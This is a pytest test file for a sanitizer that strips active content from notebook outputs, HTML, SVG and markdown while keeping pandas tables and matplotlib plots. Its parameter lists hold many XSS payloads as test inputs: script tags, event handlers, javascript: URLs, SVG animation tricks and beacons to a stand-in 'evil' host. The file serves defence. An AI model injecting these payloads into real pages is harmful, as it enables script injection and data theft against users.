"""Script in output: what people really print stays, what acts goes."""

from __future__ import annotations

import io

import pytest

from hub.gateway import printed

ACTIVE = [
    "<script>x()</script>", "<img src=x onerror=x()>", "<svg><script>x()</script></svg>", "<svg onload=x()>", "<iframe srcdoc='<script>x()</script>'>",
    "<object data=x>", "<embed src=x>", "<form action=https://evil><input type=submit>", "<a href=javascript:x()>a</a>", "<math><mi//xlink:href='x:x()'>",
    "<base href=https://evil>", "<meta http-equiv=refresh content='0;url=https://evil'>", "<link rel=prefetch href=https://evil>",
    "<video><source onerror=x()></video>", "<details ontoggle=x() open>", "<template><script>x()</script></template>", "<body onload=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>", "<button onclick=x()>b</button>", "<img src=https://evil/?data>",
    "<a href='https://evil/?data'>a</a>", "<audio src=https://evil>", "<input autofocus onfocus=x()>", "<isindex action=javascript:x()>",
]  # fmt: skip


@pytest.mark.parametrize("html", ACTIVE)
def test_html_keeps_nothing_that_acts(html: str) -> None:
    cleaned = printed.clean_html(html).lower()
    for word in (
        "x()",
        "evil",
        "<script",
        "<iframe",
        "<form",
        "<base",
        "<meta",
        "<link",
        "<object",
        "<embed",
        "<button",
    ):
        assert word not in cleaned, cleaned


def test_a_table_of_pandas_looks_as_before() -> None:
    import pandas as pd

    html = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})._repr_html_()
    cleaned = printed.clean_html(html)
    for part in ("<table", 'class="dataframe"', "<th>a</th>", "<td>1</td>", "<style"):
        assert part in cleaned


SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'


@pytest.mark.parametrize(
    "inner",
    [
        "<script>x()</script>", "<g onload='x()'/>", "<a href='javascript:x()'><text>t</text></a>", "<foreignObject><body/></foreignObject>",
        "<image href='data:image/svg+xml;base64,AA'/>", "<use href='data:image/svg+xml,x#a'/>", "<animate attributeName=href to=javascript:x()/>",
        "<set attributeName=onload to=x()/>", "<style>@import 'https://evil'</style>", "<metadata><img src=x onerror=x()></metadata><g onload=x() />",
        "<![CDATA[<script>x()</script>]]>", "<?xml-stylesheet href='https://evil'?>", "<svg:script>x()</svg:script>", "<g/onload=x()>",
        "<a xlink:href='java&#115;cript:x()'>t</a>", "<!ENTITY x 'y'>",
    ],
)  # fmt: skip
def test_svg_that_could_act_is_left_out(inner: str) -> None:
    assert printed.inert_svg(SVG.format(inner)) is None


def test_what_is_not_looked_at_in_an_svg_is_not_sent() -> None:
    sent = printed.inert_svg(
        SVG.format("<metadata><img src=x onerror=x()></metadata><!-- <script>x()</script> --><g/>")
    )
    assert sent is not None
    assert "x()" not in sent


def test_an_svg_of_matplotlib_comes_through() -> None:
    pyplot = pytest.importorskip("matplotlib.pyplot")
    figure, axes = pyplot.subplots()
    axes.plot([1, 2], [3, 4])
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    assert printed.inert_svg(buffer.getvalue()) is not None


def test_a_bundle_says_when_nothing_of_it_can_be_shown() -> None:
    cleaned = printed.clean_bundle({"application/javascript": "x()", "text/plain": "<IPython.core.display.Javascript>"})
    assert list(cleaned) == ["text/plain"]
    assert "took out" in cleaned["text/plain"]


@pytest.mark.parametrize("kind", ["text/HTML", "text/html; charset=x", "TEXT/HTML "])
def test_types_are_read_as_the_browser_reads_them(kind: str) -> None:
    assert "x()" not in str(printed.clean_bundle({kind: "<script>x()</script>"}))


def test_a_notebook_keeps_its_cells_and_loses_what_acts() -> None:
    cells = [{"cell_type": "code", "outputs": [{"output_type": "stream", "text": "a"}, "odd", {"data": "odd"}]}, "odd"]
    cleaned = printed.clean_notebook({"cells": cells, "metadata": {"widgets": {}, "kernelspec": {}}})
    assert cleaned["cells"][0]["outputs"][0]["text"] == "a"
    assert "widgets" not in cleaned["metadata"]
    assert printed.clean_notebook("odd") == "odd"


def test_markdown_becomes_clean_html() -> None:
    shown = printed.clean_bundle({"text/markdown": "# People\n\n<img src=x onerror='act()'><script>act()</script>"})
    assert set(shown) == {"text/html"}
    assert "<h1>People</h1>" in shown["text/html"]
    assert "act" not in shown["text/html"]


def test_long_markdown_is_shown_as_it_is_written() -> None:
    written = "<b>" + "x" * printed.MOST_MARKDOWN
    assert printed.clean_bundle({"text/markdown": written}) == {"text/plain": written}
